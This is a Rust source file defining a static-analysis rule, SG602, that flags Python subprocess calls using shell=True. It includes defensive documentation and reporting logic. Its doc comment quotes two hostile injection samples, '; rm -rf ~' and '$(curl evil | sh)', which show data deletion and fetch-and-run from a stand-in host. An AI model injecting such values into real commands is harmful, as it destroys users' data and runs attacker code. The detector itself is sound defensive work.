//! SG602: a `subprocess` call with `shell=True`.

use crate::analysis::checker::{CallSite, Checker};
use crate::analysis::syntax::{Expr, Ranged};
use crate::declare_rule;
use crate::finding::Severity;
use crate::rules::helpers::{is_constant, is_falsy_literal};
use crate::rules::meta::{Hooks, RuleMeta};
use crate::rules::options::RuleOptions;

pub const META: RuleMeta = declare_rule! {
    /// ## What it does
    /// Flags calls to the `subprocess` functions (configurable as `options.subprocess`, bandit's
    /// `shell_injection.subprocess` list) with `shell=True` or any other value that is not
    /// literally false. A command built from variables is reported with high severity; a fully
    /// literal command with low severity.
    ///
    /// ## Why is this bad?
    /// With `shell=True` the command string is interpreted by `/bin/sh`. Any part of it that
    /// comes from a user — a filename, a branch name, a hostname — can add `; rm -rf ~` or
    /// `$(curl evil | sh)`. Quoting by hand is easy to get wrong.
    ///
    /// ## Example
    /// ```python
    /// subprocess.run(f"convert {filename} out.png", shell=True)
    /// ```
    ///
    /// ## Use instead
    /// ```python
    /// subprocess.run(["convert", filename, "out.png"])
    /// ```
    /// Pass an argument list and leave `shell` at its default. If a shell is really needed,
    /// quote every interpolated value with `shlex.quote`.
    ///
    /// ## References
    /// - CWE-78: Improper Neutralization of Special Elements used in an OS Command
    /// - Python docs: "subprocess — Security Considerations"
    code: "SG602",
    name: "subprocess-popen-with-shell-equals-true",
    family: Injection,
    cwe: 78,
    severity: High,
    confidence: High,
    summary: "`subprocess` call with `shell=True` runs its command through the shell",
    hooks: Hooks { call: Some((&[], check)), call_computed: Some(RuleOptions::subprocess_functions), ..Hooks::NONE },
};

fn check(checker: &mut Checker, site: &CallSite) {
    let Some(callee) = site.qualified else { return };
    if !checker.options.subprocess.iter().any(|name| name == callee) {
        return;
    }
    let Some(shell) = site.keyword("shell") else {
        return;
    };
    if is_falsy_literal(shell) {
        return;
    }
    let command = site.argument(0, "args");
    let literal_command = command.is_some_and(is_literal_command);
    let message = if literal_command {
        format!(
            "`{callee}` runs a literal command with `shell=True`; pass an argument list instead"
        )
    } else {
        format!(
            "`{callee}` runs a command built at run time with `shell=True`: shell injection if any part is user-controlled"
        )
    };
    let finding = checker.report(site.call.func.range(), message);
    if literal_command {
        finding.severity = Some(Severity::Low);
    }
}

/// A command whose every part is a literal (`"ls -l"`, `["ls", "-l"]`).
pub fn is_literal_command(expr: &Expr) -> bool {
    is_constant(expr)
}
